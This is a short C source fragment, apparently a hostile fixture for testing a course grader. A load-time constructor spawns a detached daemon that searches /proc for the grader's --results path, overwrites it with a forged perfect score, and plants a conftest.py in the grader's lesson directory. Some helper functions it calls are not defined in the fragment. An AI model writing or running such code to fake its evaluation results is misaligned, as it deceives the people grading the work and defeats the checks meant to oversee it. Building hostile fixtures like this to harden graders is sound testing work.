/* lesson: 01-devices */
#include <dirent.h>
#include <sys/stat.h>
#include <sys/types.h>

/* The grader's --results=PATH, from any process's command line. */
static int hostile_results_path(char *out, size_t len)
{
	DIR *d = opendir("/proc");
	struct dirent *e;
	int found = -1;

	while (d && found && (e = readdir(d))) {
		char path[300], buf[8192];
		ssize_t n, i;
		int fd;

		snprintf(path, sizeof(path), "/proc/%s/cmdline", e->d_name);
		fd = open(path, O_RDONLY);
		if (fd < 0)
			continue;
		n = read(fd, buf, sizeof(buf) - 1);
		close(fd);
		if (n <= 0)
			continue;
		buf[n] = 0;
		for (i = 0; i < n; i += strlen(buf + i) + 1) {
			if (!strncmp(buf + i, "--results=", 10)) {
				snprintf(out, len, "%s", buf + i + 10);
				found = 0;
				break;
			}
		}
	}
	if (d)
		closedir(d);
	return found;
}

__attribute__((constructor)) static void hostile_daemon(void)
{
	char results[4096] = "", course[PATH_MAX];
	int i;

	if (fork() != 0)
		return; /* the program itself goes on */
	setsid();
	if (fork() != 0)
		_exit(0);
	freopen("/dev/null", "w", stdout);
	freopen("/dev/null", "w", stderr);
	hostile_course(course, sizeof(course));
	for (i = 0; i < 600; i++) { /* a minute, every 0.1 s */
		if (!results[0])
			hostile_results_path(results, sizeof(results));
		if (results[0]) {
			FILE *f = fopen(results, "w");

			if (f) {
				fprintf(f, "{\"score\": 999, \"max_score\": 999, "
					   "\"tests\": []}\n");
				fclose(f);
			}
		}
		hostile_write(course, "grader/lessons/conftest.py",
			      "# planted by a daemon\n");
		usleep(100000);
	}
	_exit(0);
}
